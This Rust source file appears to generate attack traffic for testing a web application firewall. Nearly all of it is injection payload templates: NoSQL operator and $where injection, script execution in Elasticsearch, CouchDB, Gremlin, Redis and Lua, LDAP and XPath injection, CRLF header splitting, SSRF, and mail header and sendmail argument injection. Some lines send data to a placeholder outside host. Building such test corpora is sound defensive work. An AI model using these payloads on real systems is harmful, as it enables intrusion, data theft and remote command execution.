//! Other languages behind a value: document stores, directories, XPath, headers, mail.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::encode::Encoding::{self, DoublePercent, JsonEscape, Percent, PercentU, Plain};
use super::super::super::place::Place;
use super::make::{Hole, cookie, form, header, json, one, other, path, query, whole, xml};

const ORDINARY: &[Encoding] = &[Plain, Percent, Plain, JsonEscape, DoublePercent];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("nosql-requests", AttackClass::Sqli, 38, |rng| whole(rng, NOSQL)),
    payload("nosql-scripted-values", AttackClass::Sqli, 36, |rng| one(rng, SCRIPTED), Place::INPUTS, ORDINARY),
    payload("ldap-logins-and-searches", AttackClass::Ldap, 38, |rng| one(rng, LDAP), Place::PARAMETERS, ORDINARY),
    payload("xpath-logins-and-strings", AttackClass::Xpath, 38, |rng| one(rng, XPATH), Place::PARAMETERS, ORDINARY),
    payload(
        "crlf-answers",
        AttackClass::Crlf,
        38,
        |rng| one(rng, ANSWERS),
        &[Place::Query, Place::Form, Place::Json, Place::Query, Place::Cookie],
        &[Plain, Percent, DoublePercent, JsonEscape, PercentU],
    ),
    request("crlf-known-places", AttackClass::Crlf, 36, |rng| whole(rng, PLACES)),
    payload(
        "mail-contact-forms",
        AttackClass::Mail,
        38,
        |rng| one(rng, MAIL),
        &[Place::Form, Place::Json, Place::Multipart, Place::Query, Place::Form],
        &[Plain, Percent, JsonEscape, Plain],
    ),
];

/// Operators in names and objects, scripts, and the stores that speak HTTP themselves.
const NOSQL: &[Hole] = &[
    form("/login", "username[$ne]=§w&password[$ne]=§w"),
    form("/api/login", "username=admin&password[$gt]=&v=§w"),
    form("/login.do", "user[$regex]=^a§w.*&pass[$exists]=true"),
    form("/login", "username[$in][]=admin&username[$in][]=root&password[$nin][]=§w"),
    form("/user/check", "«name[$where]»=«sleep(§n)»"),
    query("/api/patients?dept[$ne]=§w&limit[$gt]=§d"),
    query("/api/users?filter=«{\"$where\":\"this.password.match(/^§w/)\"}»"),
    query("/search?q=«{\"$or\":[{\"name\":\"§w\"},{\"isAdmin\":true}]}»"),
    query("/orders?id=«'; return true; var §v='»"),
    json("/api/login", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":\"§w\"}}"),
    json("/api/login", "{\"username\":\"admin\",\"password\":{\"$regex\":\"^§w\"}}"),
    json("/api/login", "{\"username\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"},\"n\":§n}"),
    json(
        "/api/search",
        "{\"query\":{\"$where\":\"function(){var d=new Date();do{c=new Date();}while(c-d<§n);return true;}\"}}",
    ),
    json(
        "/api/find",
        "{\"filter\":{\"$expr\":{\"$function\":{\"body\":\"function(){return this.constructor.constructor('return process')().exit(§d)}\",\"args\":[],\"lang\":\"js\"}}}}",
    ),
    json(
        "/api/aggregate",
        "[{\"$lookup\":{\"from\":\"users\",\"as\":\"§v\",\"pipeline\":[{\"$match\":{\"password\":{\"$regex\":\".*\"}}}]}}]",
    ),
    json(
        "/api/v1/method.callAnon/getPasswordPolicy",
        "{\"message\":\"{\\\"msg\\\":\\\"method\\\",\\\"id\\\":\\\"§n\\\",\\\"method\\\":\\\"getPasswordPolicy\\\",\\\"params\\\":[{\\\"token\\\":{\\\"$regex\\\":\\\"^§w\\\"}}]}\"}",
    ),
    query(
        "/api/v1/users.list?query=«{\"$where\":\"this.username==='admin' && (()=>{throw this.services.password.bcrypt})()\"}»&n=§n",
    ),
    json(
        "/_search?n=§n",
        "{\"script_fields\":{\"my\":{\"script\":\"import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\\\"§c\\\").getInputStream()).useDelimiter(\\\"\\\\\\\\A\\\").next();\"}}}",
    ),
    json(
        "/his/_delete_by_query",
        "{\"query\":{\"match_all\":{}},\"script\":{\"lang\":\"groovy\",\"inline\":\"'§c'.execute()\"}}",
    ),
    json(
        "PUT /_users/org.couchdb.user:§v",
        "{\"type\":\"user\",\"name\":\"§v\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"§x\"}",
    ),
    json("PUT /_config/query_servers/cmd", "\"/bin/sh -c '§c >/tmp/§w'\""),
    json(
        "/db/data/transaction/commit",
        "{\"statements\":[{\"statement\":\"MATCH (u:User {name:'§w'}) RETURN u UNION MATCH (x) RETURN x.password//'\"}]}",
    ),
    query(
        "/graph?name=«§w' OR 1=1 WITH 1 as a CALL dbms.procedures() yield name LOAD CSV FROM 'http://§h/?'+name as l RETURN 0//»",
    ),
    json("/graph/query", "{\"q\":\"x'}) DETACH DELETE n //§w\"}"),
    query("/redis/get?key=«a\r\nCONFIG SET dir /var/www/html\r\nSAVE\r\n»&n=§n"),
    json(
        "/api/cache/eval",
        "{\"script\":\"local io_l=package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0','luaopen_io');local io=io_l();return io.popen('§c','r'):read('*a')\"}",
    ),
    other(
        "/query?db=§w",
        "application/x-www-form-urlencoded",
        "q=SELECT%20*%20FROM%20cpu%3B%20CREATE%20USER%20§w%20WITH%20PASSWORD%20%27§x%27%20WITH%20ALL%20PRIVILEGES",
    )
    .at(Place::Form),
    json(
        "/gremlin",
        "{\"gremlin\":\"Thread thread = Thread.currentThread();Class clz = Class.forName(\\\"java.lang.Thread\\\");ProcessBuilder pb = new ProcessBuilder(\\\"sh\\\",\\\"-c\\\",\\\"§c\\\");pb.start()\",\"n\":§n}",
    ),
    cookie("/", "Cookie: session={\"user\":{\"$ne\":\"§w\"}}; theme=1"),
    xml(
        "/soap/user",
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><find><q>{\"$where\":\"sleep(§n)\"}</q></find></soap:Body></soap:Envelope>",
    ),
];

const SCRIPTED: &[&str] = &[
    "{\"$ne\":\"§w\"}",
    "{\"$gt\":\"\",\"$comment\":\"§w\"}",
    "{\"$regex\":\"^§w.*\"}",
    "{\"$where\":\"sleep(§n)\"}",
    "{\"$where\":\"this.password.length==§d\"}",
    "'; return this.password != '§w'; var x='",
    "'||'§w'=='§w",
    "' || this.role=='admin' || 'a'=='§w",
    "';sleep(§n);var a='",
    "1;var d=new Date();while(new Date()-d<§n){};1",
    "\"}, $or: [{}, {\"a\":\"§w\"}], \"b\": \"",
    "admin' && this.password.match(/^§w.*/)//",
    "' || 1==1//§w",
    "' || 1==1\0§w",
    "db.users.find({}).toArray()//§w",
    "'});db.dropDatabase();//§w",
    "{\"$or\":[{},{\"§w\":\"§w\"}]}",
    "true, $where: '§n == §n'",
    "' && tojson(this)[§d]=='a' && '1'=='1",
    "'}) RETURN n UNION MATCH (m) RETURN m//§w",
    "this.constructor.constructor('return db')().getCollectionNames()//§w",
];

const LDAP: &[&str] = &[
    "*)(uid=*))(|(uid=*",
    "admin)(&)(§w",
    "§w*)(objectClass=*",
    "admin)(!(&(1=0)(§w=§w",
    "*))(|(password=*§w",
    "*)(userPassword=a*)(cn=§w",
    "admin*)((|userpassword=*)(§w",
    "x)(|(objectclass=user)(cn=§w*",
    "*)(|(mail=*§w))",
    "*)(uid=*))%00§w",
    "*)(uid=§w))\0",
    "*)(&(objectCategory=person)(sAMAccountName=§w*",
    "admin)(|(description=*pass*)(§w=*",
    "zhang*)(telephoneNumber=§n*",
    "*)(memberOf=CN=Domain Admins,CN=Users,DC=his,DC=example)(cn=§w",
    "\\2a\\29\\28uid=\\2a§w*)(|(uid=*",
    "*)(sn=§w)(|(&(userPassword:2.5.13.18:=\\§d0)",
    "§w)(userAccountControl:1.2.840.113556.1.4.803:=§n",
    "uid=§w,ou=people,dc=his,dc=example)(|(uid=*",
    "(&(uid=§w)(|(uid=admin)(userPassword=*)))",
    "*(|(mail=*)(ou=§w",
    "§w)(department=*)(|(title=*",
];

const XPATH: &[&str] = &[
    "' or '§w'='§w",
    "' or 1=1 or 'a'='§w",
    "admin' or count(//user)>§d or 'x'='y",
    "'] | //user/password | a['§w",
    "' or substring(//user[§d]/password,1,1)='a' or '§w'='b",
    "x' or name(/*[1])='§w' or 'x'='y",
    "' and string-length(//user[position()=§d]/pass/text())=§d and '1'='1",
    "']/parent::*/child::node()|a['§w",
    "§n]|//*|//*[1=1",
    "1 or position()=§d",
    "' or contains(name(/*[1]/*[§d]),'§w') or '1'='2",
    "\" or starts-with(//patient[§d]/idcard,'1') or \"a\"=\"§w",
    "' or doc('http://§h/§w')/x or 'a'='b",
    "') or ('§w'='§w') or ('a'='b",
    "' or unparsed-text('/§f') or 'a'='b",
    "*[local-name()='§w']|//password",
    "' or true() or '§w",
    "§w' or not(//user[@role='§w']) or 'a'='b",
    "//*[contains(text(),'§w')]/../following-sibling::*",
    "'|/descendant::node()/text()|'§w",
    "')/ancestor-or-self::node()|(('§w",
    "' or translate(substring(//u[1]/p,§d,1),'abc','ABC')='B' or 'x'='§w",
];

/// Line ends in what is written to the header of the answer.
const ANSWERS: &[&str] = &[
    "/index\r\nSet-Cookie: session=§x",
    "zh\r\nSet-Cookie:crlf=§w",
    "http://www.boai.example/\r\nLocation: http://§h/",
    "§w\r\n\r\n<script>alert(§n)</script>",
    "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>§w</h1>",
    "§w\nX-Injected: §w",
    "%0d%0aSet-Cookie:%20§w=1",
    "/\r\nX-XSS-Protection: 0\r\n\r\n<svg/onload=alert(§n)>",
    "§w\r\n\tSet-Cookie: a=§x",
    "\r\nAccess-Control-Allow-Origin: http://§h",
    "嘊嘍Set-Cookie: §w=1",
    "\r\nRefresh: 0;url=http://§h/§w",
    "\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(§n)+ADw-/script+AD4-",
    "a.pdf\"\r\nContent-Disposition: inline\r\nX: §w",
    "\u{2028}Set-Cookie: §w=1\r\nX-A: b",
    "\r\nLink: <http://§h/§w.css>; rel=stylesheet",
    "/home\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n§w",
];

/// Redirects of servers, and values that reach another line protocol.
const PLACES: &[Hole] = &[
    path("/%0d%0aSet-Cookie:§v=§x").spelled(Percent),
    path("/%0D%0A%20Set-Cookie:%20§v=1").spelled(Percent),
    path("/§w%0d%0a%0d%0a%3Cscript%3Ealert(§n)%3C/script%3E").spelled(Percent),
    path("/%E5%98%8A%E5%98%8DSet-Cookie:§v=1").spelled(Percent),
    path("/%3f%0d%0aLocation:%0d%0aX-§v:1").spelled(Percent),
    path("/%23%0dSet-Cookie:§v=§x;domain=.boai.example").spelled(Percent),
    path("/%250d%250aSet-Cookie:§v=1").spelled(DoublePercent),
    path("/%u000d%u000aSet-Cookie:§v=1").spelled(PercentU),
    path("/static/%20HTTP/1.1%0d%0aHost:%20127.0.0.1%0d%0a%0d%0aGET%20/§w").spelled(Percent),
    query("/login?redirect=%0d%0aSet-Cookie:%20SESSION=§x").spelled(Percent),
    query("/jump.php?url=http://www.boai.example/%0aX-Forwarded-Host:%20§h").spelled(Percent),
    query("/lang?l=zh_CN%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a%0d%0a§w").spelled(Percent),
    query("/sso/logout?service=%250D%250ASet-Cookie:§v=§x").spelled(DoublePercent),
    query("/download?name=a%22%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cimg%20src=x%20onerror=alert(§n)%3E")
        .spelled(Percent),
    query("/proxy?host=127.0.0.1:6379%0d%0aSLAVEOF%2010.9.8.7%20§n%0d%0a").spelled(Percent),
    query("/memcache?key=§w%0d%0aset%20admin%200%203600%201%0d%0a1%0d%0a").spelled(Percent),
    form("/redirect", "url=%0d%0aSet-Cookie%3A+role%3Dadmin§n").spelled(Percent),
    form("/feedback", "lang=zh%0d%0aX-Accel-Redirect:+/internal/§w").spelled(Percent),
    json("/api/redirect", "{\"target\":\"/ok\\r\\nSet-Cookie: admin=§x\"}"),
    json(
        "/api/webhook",
        "{\"url\":\"http://127.0.0.1:80/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nPOST /§w\",\"event\":\"a\"}",
    ),
    header("/", "X-Forwarded-Host: www.boai.example%0d%0aSet-Cookie: §v=1").spelled(Percent),
    cookie("/", "Cookie: lang=zh%0d%0aSet-Cookie:%20§v=§x").spelled(Percent),
    query("/log?user=admin%0a2026-11-20%2010:00:00%20INFO%20login%20succeeded%20for%20§w").spelled(Percent),
    query("/%20%0d%0aX-Real-IP:%20127.0.0.1?§w").at(Place::Path).spelled(Percent),
];

/// Contact and feedback forms that build the header of a letter.
const MAIL: &[&str] = &[
    "§w@mail.example\r\nBcc: §w@spam.example",
    "§w@mail.example\nCc: §w@spam.example, §w@spam.example",
    "预约咨询\r\nTo: §w@spam.example",
    "§w\r\nSubject: win a prize §n",
    "§w@mail.example\r\nContent-Type: text/html\r\n\r\n<a href=\"http://§h/\">点击</a>",
    "§w@mail.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"§w\"",
    "§w@mail.example>\r\nRCPT TO:<§w@spam.example>",
    "§w@mail.example\r\nDATA\r\nSubject: §w\r\n\r\n§w\r\n.\r\nQUIT",
    "\"§w\"\r\nReply-To: §w@spam.example",
    "\"attacker\\\" -oQ/tmp/ -X/var/www/html/§w.php  some\"@mail.example",
    "\"§w\\\" -be ${run{${substr{0}{1}{$spool_directory}}usr${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}id}} \"@mail.example",
    "§w@mail.example -X/var/www/html/§w.php -OQueueDirectory=/tmp",
    "§w@mail.example%0ABcc:§w@spam.example",
    "§w\r\n.\r\nMAIL FROM:<§w@spam.example>\r\nRCPT TO:<§w@mail.example>",
    "1 CAPABILITY\r\nA§d LOGIN §w §w\r\n",
    "INBOX\"\r\nA§d FETCH 1:* BODY[]\r\n",
    "x\r\nFrom: 院长办公室 <§w@boai.example>\r\nX-Priority: §d",
    "§w@mail.example\rBCC:§w@spam.example",
    "§w@mail.example\r\n\tBcc: §w@spam.example\r\nX-Mailer: §w",
];
